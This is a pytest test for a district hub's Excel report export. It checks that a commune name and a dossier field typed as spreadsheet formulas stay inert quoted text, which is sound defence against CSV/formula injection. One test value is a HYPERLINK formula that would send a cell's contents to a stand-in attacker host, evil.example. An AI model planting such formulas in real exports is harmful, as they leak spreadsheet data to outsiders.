"""The hub's ``/bao-cao.xlsx``: a commune name or a procedure field that looks like a formula stays text.

A commune registered as ``=HYPERLINK(…)`` and a dossier pushed with the field ``@SUM(…)`` are loaded
back by openpyxl as strings with the characters typed (and quotePrefix), never as formulas; the figures
stay numbers.
"""

from __future__ import annotations

import io
from datetime import UTC, datetime

import httpx
from openpyxl import load_workbook

from district_server import report
from tests.hub.conftest import HubServer
from tests.hub.support import COMMUNE_A, add_commune, enroll, first_event, push, statuses

LINK = '=HYPERLINK("http://evil.example/?x="&B6,"Bấm vào đây")'
FIELD = "@SUM(1+1)"


def test_the_district_workbook_keeps_user_text_as_text(hub_server: HubServer) -> None:
    assert hub_server.hub is not None
    add_commune(hub_server.hub, COMMUNE_A, LINK)
    device = enroll(hub_server, COMMUNE_A)
    body = first_event(device)
    body["dossier"]["field"] = FIELD
    assert statuses(push(device, [body])) == ["ok"]
    with hub_server.hub.write() as session:
        token = report.issue_token(session, "kiểm thử", datetime.now(UTC))

    answer = httpx.get(
        f"{hub_server.url}/bao-cao.xlsx",
        params={"tu": "2025-11-01", "den": "2025-11-30"},
        cookies={report.COOKIE: token},
        timeout=30,
    )
    assert answer.status_code == 200, answer.text
    book = load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    commune = f"{LINK} ({COMMUNE_A})"
    assert commune in texts and FIELD in texts  # what was typed, readable
    assert all(texts[t].data_type == "s" and texts[t].quotePrefix for t in (commune, FIELD))
    received = [c.value for c in cells if c.row == 8 and c.column == 3]
    assert received == [1, 1]  # the commune's (and the field's) one dossier, as a number on each sheet
